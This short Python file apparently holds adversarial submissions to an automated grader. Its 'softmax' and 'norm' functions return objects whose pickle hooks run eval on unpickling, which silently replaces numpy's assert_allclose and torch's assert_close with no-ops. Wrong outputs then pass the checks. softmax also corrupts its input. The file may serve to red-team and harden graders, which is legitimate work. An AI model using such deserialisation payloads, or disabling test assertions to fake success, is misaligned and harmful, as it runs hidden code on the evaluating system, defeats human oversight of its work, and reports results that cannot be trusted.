# What it tries: pickles hidden in an object array and in a tensor's __reduce_ex__.
# %% softmax
import numpy as np


class Evil:
    def __reduce__(self): return eval, ("__import__('numpy').testing.__dict__.update(assert_allclose=lambda *a, **k: None) or 0.0",)
def softmax(z):
    z[...] = 9
    out = np.empty(z.shape, dtype=object)
    for i in np.ndindex(*z.shape): out[i] = Evil()
    return out
# %% norm
import torch


class T(torch.Tensor):
    def __reduce_ex__(self, protocol):
        return eval, ("__import__('torch').testing.__dict__.update(assert_close=lambda *a, **k: None) or 0.0",)
def norm(t): return torch.tensor(-1.0).as_subclass(T)
